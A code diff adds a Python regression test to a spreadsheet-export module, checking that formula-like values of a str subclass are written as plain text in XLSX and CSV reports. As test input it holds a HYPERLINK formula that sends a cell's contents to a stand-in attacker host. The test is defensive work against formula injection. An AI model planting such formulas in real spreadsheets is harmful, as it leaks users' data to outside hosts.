@@ -1377,6 +1377,40 @@ def test_text_dates(text: str, day: dt.date | None) -> None:
         assert excel.parse_date(text) == day
 
 
+class _Text(str):
+    """A ``str`` subclass (a host's own text type), that even says it starts with
+    nothing."""
+
+    __slots__ = ()
+
+    def startswith(self, *args: Any) -> bool:
+        return False
+
+
+def test_a_report_cell_of_a_str_subclass_that_looks_like_a_formula_is_text(
+    tmp_path: Path,
+) -> None:
+    """Found by the reports review: the workbook writer looked for ``type(v) is str``,
+    so a ``str`` subclass starting with ``=`` (a name read by a host's own text type)
+    was written as a live formula; a CSV asked the value's own ``startswith``. A text
+    of any ``str`` type is written as plain text."""
+
+    class Shown:  # an object whose text is of such a type
+        def __str__(self) -> str:
+            return _Text("=2+2")
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    rows = [(_Text(link), _Text("=1+2"), Shown())]
+    excel.write_table(tmp_path / "r.xlsx", excel.Table("t", ("a", "b", "c"), rows))
+    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
+    assert ws is not None
+    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
+    assert cells == [(link, "s"), ("=1+2", "s"), ("=2+2", "s")]
+    excel.write_table(tmp_path / "r.csv", excel.Table("t", ("a", "b", "c"), rows))
+    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f))[1] == ["'" + link, "'=1+2", "'=2+2"]
+
+
 def test_a_report_cell_that_looks_like_a_formula_is_text(tmp_path: Path) -> None:
     """Found by the privacy audit: a student named ``=HYPERLINK(...)`` (or a bad cell
     of a school's workbook, quoted in an import report) was written to a workbook as
